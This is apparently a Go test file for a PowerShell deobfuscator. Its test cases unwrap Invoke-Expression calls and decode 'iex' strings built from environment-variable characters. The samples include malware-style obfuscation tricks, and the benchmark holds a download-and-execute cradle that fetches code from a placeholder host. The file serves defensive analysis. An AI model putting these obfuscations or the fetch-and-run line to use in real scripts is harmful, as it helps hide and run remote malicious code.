package deobfuscate

import "testing"

func TestPSInvokeExpression(t *testing.T) {
	runTransformTable(t, PSInvokeExpression, []transformCase{
		{"iex string", `iex "Write-Host hi"`, `Write-Host hi`, true},
		{"iex parens", `IEX('whoami /all')`, `whoami /all`, true},
		{"Invoke-Expression -Command", `Invoke-Expression -Command 'net user'`, `net user`, true},
		{"pipe to iex", `'Get-Process' | iex`, `Get-Process`, true},
		{"parenthesised pipe", `('calc.exe')|Invoke-Expression;`, `calc.exe;`, true},
		{"call operator", `& ('New-Object') Net.WebClient`, `New-Object Net.WebClient`, true},
		{"dot call after pipe", `$x |.('iex')`, `$x |iex`, true},
		{"dynamic member", `$wc.('DownloadString')('http://x/a')`, `$wc.DownloadString('http://x/a')`, true},
		{"interpolating argument waits", `iex "$a"`, `iex "$a"`, false},
		{"expression argument waits", `iex ($a + 'b')`, `iex ($a + 'b')`, false},
		{"variable named iex", `$iex 'a'`, `$iex 'a'`, false},
		{"cmd background", `start /b app & echo done`, `start /b app & echo done`, false},
	})
}

func TestPSIEXBuilder(t *testing.T) {
	runTransformTable(t, PSIEXBuilder, []transformCase{
		{"pshome", `&( $pshome[4]+$pshome[30]+'x') ('Write-Host hi')`, `iex ('Write-Host hi')`, true},
		{"comspec join", `'whoami' |.( $env:ComSpec[4,15,25]-Join'')`, `'whoami' |iex`, true},
		{"shellid", `. ( $ShellId[1]+$ShellId[13]+'x')("dir")`, `iex ("dir")`, true},
		{"verbose preference", `&( $VerbosePreference.ToString()[1,3]+'x'-join'')`, `iex`, true},
		{"string cast", `.( ([String]$VerbosePreference)[1,3]+'X'-Join'')`, `iex`, true},
		{"get-variable mdr", `&((gv '*mdr*').Name[3,11,2]-join'')`, `iex`, true},
		{"env public", `&( $env:Public[13]+$env:Public[5]+'x')`, `iex`, true},
		{"spells something else", `&( $pshome[0]+'md')`, `&( $pshome[0]+'md')`, false},
		{"unknown variable", `&( $foo[4]+'ex')`, `&( $foo[4]+'ex')`, false},
	})
}

func FuzzPSInvokeExpression(f *testing.F) {
	fuzzTransform(f, PSInvokeExpression, `iex 'a'`, `'a'|iex`, `.('x')`, `& (`)
}
func FuzzPSIEXBuilder(f *testing.F) {
	fuzzTransform(f, PSIEXBuilder, `&( $pshome[4]+$pshome[30]+'x')`, `.((gv '*mdr*').Name[3,11,2]-join'')`)
}

func BenchmarkPSInvokeExpression(b *testing.B) {
	benchTransform(b, PSInvokeExpression, `iex "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"`)
}
func BenchmarkPSIEXBuilder(b *testing.B) {
	benchTransform(b, PSIEXBuilder, `&( $pshome[4]+$pshome[30]+'x') ('Write-Host hi')`)
}
